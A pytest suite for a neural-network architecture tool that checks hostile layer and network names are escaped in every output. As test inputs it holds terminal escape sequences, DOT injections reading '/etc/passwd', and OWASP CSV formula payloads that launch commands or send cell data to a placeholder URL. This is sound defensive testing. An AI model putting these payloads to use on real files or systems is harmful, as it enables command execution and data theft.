"""Names are data (issue 11): a spec's network, layer and input names, however hostile, show
literally in every view and never act as DOT, rich markup, markdown, CSV structure or terminal
control sequences. Each test is named after the case it covers."""
import csv
import io
import json
import re
import shlex
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET

import pytest
from click.testing import CliRunner

import archcalc
from archcalc.cli import main
from archcalc.views import diff as compare
from archcalc.views import escape, output, report
from archcalc.views import explain as board
from archcalc.views import solve as solver

# one layer per name: every character class that has broken a view somewhere
HOSTILE = [
    "line\nbreak",
    "tab\there",
    "cr\rreturn",
    "pipe|cell",
    "back\\slash",
    "trailing\\",
    "[/oops]",
    "[link=http://x]click[/link]",
    "[bold red]styled",
    ":smile: emoji",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://x\x1b\\osc8",
    "nul\x00byte",
    "c1\x85\x9bcontrol",
    "bidi\u202eevil\u2066",
    "sep\u2028line",
    "<b>html</b>",
    "it's \"quoted\"",
    "*star* _under_ `code` #hash ~strike~ &amp; $x$",
    "l" * 2000,
]
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours: the only escapes allowed out


def hostile_yaml(names=HOSTILE, network="<x> { injected } digraph <y>", last: str = "kernel: 1") -> str:
    """A chain of 1x1 convs (the last one ``last``), one per name; names written as JSON strings,
    which YAML reads with the same escapes."""
    layers = "\n".join(f"  - conv: {{filters: 2, kernel: 1, name: {json.dumps(name)}}}" for name in names[:-1])
    layers += f"\n  - conv: {{filters: 2, {last}, name: {json.dumps(names[-1])}}}"
    return f"name: {json.dumps(network)}\ninput: [3, 9, 9]\nlayers:\n{layers}\n"


def hostile_spec(names=HOSTILE, **options):
    return archcalc.loads(hostile_yaml(names, **options), "hostile.yaml")


def analysis_of(names=HOSTILE, **spec):
    return archcalc.analyze(hostile_spec(names, **spec))


def assert_no_raw_control(text: str):
    """Nothing but newlines and rich's colour codes may reach a terminal."""
    left = SGR.sub("", text)
    assert not RAW_CONTROL.search(left), repr(RAW_CONTROL.search(left).group())
    assert "\x1b" not in left


# --- the escaping functions themselves --------------------------------------------------------

def test_visible_writes_every_control_character_out_and_keeps_the_rest():
    assert escape.visible("a\x1b[31mb") == "a\\x1b[31mb"
    assert escape.visible("a\nb\tc\rd") == "a\\nb\\tc\\rd"
    assert escape.visible("bidi\u202e\u2066\u200f\u061c") == "bidi\\u202e\\u2066\\u200f\\u061c"
    assert escape.visible("nul\x00 del\x7f c1\x85") == "nul\\x00 del\\x7f c1\\x85"
    assert escape.visible("back\\slash [/x] <b> ünïcode 日本 \u200d") == "back\\slash [/x] <b> ünïcode 日本 \u200d"
    for name in HOSTILE:
        shown = escape.visible(name)
        assert "\n" not in shown and not RAW_CONTROL.search(shown)
        assert escape.visible(shown) == shown  # applying it twice changes nothing


def test_markdown_escape_reads_back_as_the_visible_name():
    for name in HOSTILE:
        assert unescape_markdown(escape.markdown(name)) == escape.visible(name)


def test_csv_text_round_trips_every_name_through_csv_reader():
    rows = [[name, 1] for name in HOSTILE]
    assert list(csv.reader(io.StringIO(escape.csv_text(rows, ["name", "n"]), newline=""))) == \
        [["name", "n"]] + [[name, "1"] for name in HOSTILE]


# --- DOT -------------------------------------------------------------------------------------
needs_dot = pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz's dot program is not installed")
SVG = "{http://www.w3.org/2000/svg}"
INJECTION = '<x> { injected [label="pwned" image="/etc/passwd"] } digraph <y>'


def render_cli(tmp_path, spec_text: str, output: str):
    path = tmp_path / "spec.yaml"
    path.write_text(spec_text)
    return CliRunner().invoke(main, ["render", str(path), "-o", str(tmp_path / output)])


def svg_texts(path) -> list:
    return [t.text for t in ET.parse(path).getroot().iter(f"{SVG}text")]


@needs_dot
def test_dot_injection_name_renders_one_graph_showing_the_name(tmp_path):
    spec = f"name: {json.dumps(INJECTION)}\ninput: [3, 8, 8]\nlayers:\n  - conv: {{filters: 2, kernel: 3}}\n"
    result = render_cli(tmp_path, spec, "net.svg")
    assert result.exit_code == 0, result.output
    svg = (tmp_path / "net.svg").read_text()
    assert svg.count("<svg") == 1 and "<image" not in svg
    root = ET.fromstring(svg)  # one well-formed document
    assert root.find(f"{SVG}g/{SVG}title").text == INJECTION  # the graph's name, literally
    assert INJECTION in svg_texts(tmp_path / "net.svg")        # the caption, literally
    titles = [t.text for t in root.iter(f"{SVG}title")]
    assert "injected" not in titles and "pwned" not in svg_texts(tmp_path / "net.svg")


@needs_dot
def test_dot_attribute_injection_through_a_layer_name_is_text(tmp_path):
    names = ['x" image="/etc/passwd', 'y> image=</etc/passwd', "z] [image=/etc/passwd"]
    body = "\n".join(f"  - conv: {{filters: 2, kernel: 1, name: {json.dumps(n)}}}" for n in names)
    result = render_cli(tmp_path, f"input: [3, 8, 8]\nlayers:\n{body}\n", "net.svg")
    assert result.exit_code == 0, result.output
    svg = (tmp_path / "net.svg").read_text()
    assert "<image" not in svg
    texts = svg_texts(tmp_path / "net.svg")
    assert all(name in texts for name in names)


@needs_dot
def test_dot_trailing_backslash_name_renders_valid_dot_and_svg(tmp_path):
    spec = 'name: "net\\\\"\ninput: [3, 8, 8]\nlayers:\n  - conv: {filters: 2, kernel: 3, name: "c\\\\"}\n'
    assert render_cli(tmp_path, spec, "net.dot").exit_code == 0
    drawn = subprocess.run(["dot", "-Tsvg", str(tmp_path / "net.dot"), "-o", str(tmp_path / "net.svg")],
                           capture_output=True, text=True, check=False)
    assert drawn.returncode == 0 and not drawn.stderr, drawn.stderr
    texts = svg_texts(tmp_path / "net.svg")
    assert "net\\" in texts and "c\\" in texts
    assert render_cli(tmp_path, spec, "direct.svg").exit_code == 0  # and through the Python package


@needs_dot
def test_dot_every_hostile_name_is_drawn_literally(tmp_path):
    from archcalc.views.render import write

    write(analysis_of(), str(tmp_path / "net.svg"))
    texts = svg_texts(tmp_path / "net.svg")
    for name in HOSTILE:
        assert escape.visible(name) in texts, name
    assert escape.visible("<x> { injected } digraph <y>") in texts


def test_dot_source_has_no_name_outside_an_html_label():
    from archcalc.views.render import to_dot

    dot = to_dot(analysis_of(network='net" [label="x'))
    assert dot.startswith("digraph <net&quot; [label=&quot;x> {")
    assert "image" not in dot and "\x1b" not in dot and "\n\t" in dot
    # every line is one statement: no name brought a newline into the source
    assert all(line.startswith(("digraph", "\t", "}")) for line in dot.splitlines())


# --- terminal (rich) ------------------------------------------------------------------------

def terminal(width: int = 6000):
    from rich.console import Console
    return Console(file=io.StringIO(), force_terminal=True, color_system="standard", width=width, highlight=False)


def test_rich_markup_in_names_crashes_nothing_and_shows_literally():
    analysis = archcalc.analyze(hostile_spec(), input_shape=(3, 8, 8))  # --input: 'weights no longer fit' lines
    console = terminal()
    output.write_rich(report.table_report(analysis, archcalc.analyze(hostile_spec()), report.Extras()), console)
    out = console.file.getvalue()
    assert_no_raw_control(out)
    assert "\x1b]8;" not in out  # no hyperlink
    for name in HOSTILE:
        assert escape.visible(name) in out, name
    assert escape.visible("<x> { injected } digraph <y>") in out


def test_rich_markup_in_names_through_the_cli_on_a_terminal(tmp_path):
    """inspect, diff and explain as a person runs them: on a terminal (script gives them one)."""
    if shutil.which("script") is None:
        pytest.skip("util-linux's script is not installed")
    path = tmp_path / "hostile.yaml"
    path.write_text(hostile_yaml())
    for command in (["inspect", path], ["diff", path, path, "--all"], ["explain", path]):
        line = shlex.join([sys.executable, "-m", "archcalc", *map(str, command)])  # this interpreter, not PATH's
        done = subprocess.run(["script", "-qec", line, "/dev/null"], capture_output=True, text=True, check=False,
                              env={**__import__("os").environ, "COLUMNS": "6000"})
        assert done.returncode == 0, done.stdout[-2000:]
        assert "Traceback" not in done.stdout
        assert_no_raw_control(done.stdout.replace("\r", ""))
        for name in HOSTILE[:-1]:
            assert escape.visible(name) in done.stdout, (command[0], name)


def test_rich_diff_of_hostile_names_on_a_terminal(monkeypatch):
    for variable, value in {"FORCE_COLOR": "1", "TERM": "xterm", "COLUMNS": "6000"}.items():
        monkeypatch.setenv(variable, value)  # diff builds its own Console: rich reads these
    a = analysis_of()
    b = analysis_of(HOSTILE[:-1] + ["[/renamed]\x1b[2J"])
    buffer = io.StringIO()
    compare.print_table(compare.diff(a, b), show_all=True, file=buffer)
    out = buffer.getvalue()
    assert "\x1b[1m" in out  # rich did write to a terminal
    assert_no_raw_control(out)
    assert "[/renamed]\\x1b[2J" in out
    for name in HOSTILE:
        assert escape.visible(name) in out, name


def test_run_report_of_hostile_names_on_a_terminal(monkeypatch):
    pytest.importorskip("torch")
    from archcalc.backend.verification import verify
    from archcalc.views import runreport

    for variable, value in {"FORCE_COLOR": "1", "TERM": "xterm", "COLUMNS": "6000"}.items():
        monkeypatch.setenv(variable, value)  # print_verification builds its own Console: rich reads these
    result = verify(analysis_of(), device="meta")
    assert result.ok
    buffer = io.StringIO()
    runreport.print_verification(result, file=buffer)
    out = buffer.getvalue()
    assert "\x1b[1m" in out
    assert_no_raw_control(out)
    for name in HOSTILE:
        assert escape.visible(name) in out, name


# --- plain text, markdown, CSV, JSON ---------------------------------------------------------

def test_plain_table_one_line_per_row_with_hostile_names():
    analysis = analysis_of()
    text = output.plain_text(report.table_report(analysis, None, report.Extras()))
    lines = text.split("\n")
    assert lines[0] == escape.visible(f"<x> {{ injected }} digraph <y>: {report.inputs_text(analysis)}")
    rule = next(i for i, line in enumerate(lines) if line.startswith(" \u2500"))
    rows = lines[rule + 1: lines.index("", rule)]
    assert len(rows) == len(HOSTILE)
    for row, name in zip(rows, HOSTILE):
        assert row.startswith("  " + escape.visible(name) + " ")
    assert_no_raw_control(text)


def unescape_markdown(cell: str) -> str:
    """A markdown cell as GitHub shows it: a backslash before punctuation is dropped."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", cell)


def markdown_cells(row: str) -> list:
    """The cells of a markdown table row: split on the pipes that no backslash escapes."""
    cells, current, chars = [], "", iter(row.strip()[1:-1])
    for char in chars:
        if char == "\\":
            current += char + next(chars)
        elif char == "|":
            cells.append(current.strip())
            current = ""
        else:
            current += char
    return cells + [current.strip()]


def test_markdown_rows_with_hostile_names():
    analysis = analysis_of()
    text = report.to_markdown(analysis)
    lines = text.split("\n")
    assert unescape_markdown(lines[0][2:]) == escape.visible("<x> { injected } digraph <y>")
    table = [line for line in lines if line.startswith("|")]
    assert len(table) == 2 + len(HOSTILE)
    for row, name in zip(table[2:], HOSTILE):
        cells = markdown_cells(row)
        assert len(cells) == len(report.HEADERS)
        assert unescape_markdown(cells[0]) == escape.visible(name)
    assert_no_raw_control(text)
    assert "<b>" not in text and "[/oops]" not in text


def test_csv_and_json_round_trip_hostile_names():
    analysis = analysis_of()
    rows = list(csv.reader(io.StringIO(report.to_csv(analysis), newline="")))
    assert len(rows) == 1 + len(HOSTILE) + 1  # the header, the layers, the totals
    assert [row[0] for row in rows[1:-1]] == HOSTILE and rows[-1][0] == "total"
    document = json.loads(report.to_json(analysis))
    assert [layer["name"] for layer in document["layers"]] == HOSTILE
    assert document["name"] == "<x> { injected } digraph <y>"


# OWASP's CSV injection examples (its page and its test payloads): each would run as a formula in
# Excel, LibreOffice Calc or Google Sheets if a cell started with it
FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://x?"&A1,"Error")', "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "-x1", "@"]


def test_csv_formula_injection_names_start_with_a_single_quote(tmp_path):
    """A layer or network name that a spreadsheet would run as a formula is written with OWASP's
    single quote in front, through inspect -o x.csv; numbers, and the receptive field's negative
    starts ('-3x-3'), stay as they are."""
    path = tmp_path / "formulas.yaml"
    path.write_text(hostile_yaml(FORMULAS, last="kernel: 3, padding: 1"))
    result = CliRunner().invoke(main, ["inspect", str(path), "--rf", "-o", str(tmp_path / "out.csv")])
    assert result.exit_code == 0, result.output
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as written:
        rows = list(csv.reader(written))
    assert [row[0] for row in rows[1:-1]] == ["'" + name for name in FORMULAS]
    starts = [row[rows[0].index("rf_start")] for row in rows[1:-1]]
    assert starts[-1] == "-1x-1"  # the 3x3 conv with padding 1: a start of -1 per axis, kept as a number
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\0") for cell in row if cell)
        assert not any(cell.startswith("-") and not re.fullmatch(r"--|-\d+(x-?\d+)*", cell) for cell in row)


def test_csv_cell_escapes_formulas_only():
    assert escape.csv_cell("=1+1") == "'=1+1" and escape.csv_cell("@x") == "'@x"
    assert escape.csv_cell("-3x-3") == "-3x-3" and escape.csv_cell("-1.5") == "-1.5" and escape.csv_cell(-7) == -7
    assert escape.csv_cell("-3x-3+cmd") == "'-3x-3+cmd" and escape.csv_cell("--") == "--"
    assert escape.csv_cell("a=1") == "a=1" and escape.csv_cell("'=1") == "'=1" and escape.csv_cell("") == ""

def test_explain_and_solve_show_hostile_names_on_one_line():
    spec = hostile_spec(last="kernel: 2, stride: 2")  # 9 - 2 is not a multiple of 2: the last layer is invalid
    text = board.render_text(board.explain(spec))
    for name in HOSTILE:
        assert f"\n{escape.visible(name)}: conv 2" in text
    assert_no_raw_control(text)
    solved = solver.render_text(solver.solve(spec, high=64))
    assert f"  {escape.visible(HOSTILE[-1])} (hostile.yaml:" in solved
    assert_no_raw_control(solved)


def test_errors_naming_a_hostile_layer_show_it_literally(tmp_path):
    path = tmp_path / "twice.yaml"
    name = json.dumps("\x1b[2J[/oops]\nnext")
    path.write_text(f"input: [3, 8, 8]\nlayers:\n  - conv: {{filters: 2, kernel: 1, name: {name}}}\n"
                    f"  - conv: {{filters: 2, kernel: 1, name: {name}}}\n")
    result = CliRunner().invoke(main, ["inspect", str(path)])
    assert result.exit_code == 2
    assert "twice.yaml:4:5: error: two layers are named '\\x1b[2J[/oops]\\nnext'\n  hint: the first is at line 3" \
        in result.output
    assert_no_raw_control(result.output)


def test_error_naming_a_layer_with_a_newline_stays_on_one_line(tmp_path):
    """Found by the adversarial suite: the CLI escaped an error line by line after splitting it at
    every newline, so a layer named 'two\\nlines' broke the message (or a hint listing names) in two."""
    path = tmp_path / "newline.yaml"
    path.write_text('input: [3, 8]\nlayers:\n  - conv: {filters: 4, kernel: 30, name: "two\\nlines"}\n')
    result = CliRunner().invoke(main, ["inspect", str(path)])
    assert result.exit_code == 2
    first, hint = result.stderr.splitlines()
    assert first.endswith("newline.yaml:3:32: error: layer two\\nlines: kernel 30 does not fit: the input is 8 "
                          "with padding 0+0, so D-F+2P = -22 is negative")
    assert hint.startswith("  hint: try padding: same (-> 8)")
    unknown = tmp_path / "unknown.yaml"  # a hint listing names: one line too
    unknown.write_text('input: [3, 8]\noutputs: [nowhere]\nlayers:\n  - relu: {name: "two\\nlines"}\n')
    assert CliRunner().invoke(main, ["inspect", str(unknown)]).stderr.splitlines()[1] == \
        "  hint: valid: two\\nlines"


def test_memory_timeline_shows_hostile_names_one_line_each(tmp_path):
    """Found by the adversarial suite: `archcalc memory` wrote the network's and each layer's name
    raw (an escape sequence reached the terminal, a newline broke the timeline's bar in two)."""
    path = tmp_path / "hostile.yaml"
    path.write_text(hostile_yaml(network="two\nlines\x1b[2J"))
    result = CliRunner().invoke(main, ["memory", str(path), "--train"])
    assert result.exit_code == 0, result.output
    assert_no_raw_control(result.output)
    lines = result.output.split("\n")
    assert lines[0] == "two\\nlines\\x1b[2J: input 3x9x9 (C x H x W), batch 1, float32, cuda kernels"
    for phase in ("inference", "forward", "backward"):
        bars = [line for line in lines if line.startswith(f"  {phase} ") and "█" in line]
        shown = sorted(line.split()[1] for line in bars if "(start)" not in line and "(end)" not in line)
        assert shown == sorted(escape.visible(name).split()[0] for name in HOSTILE), phase
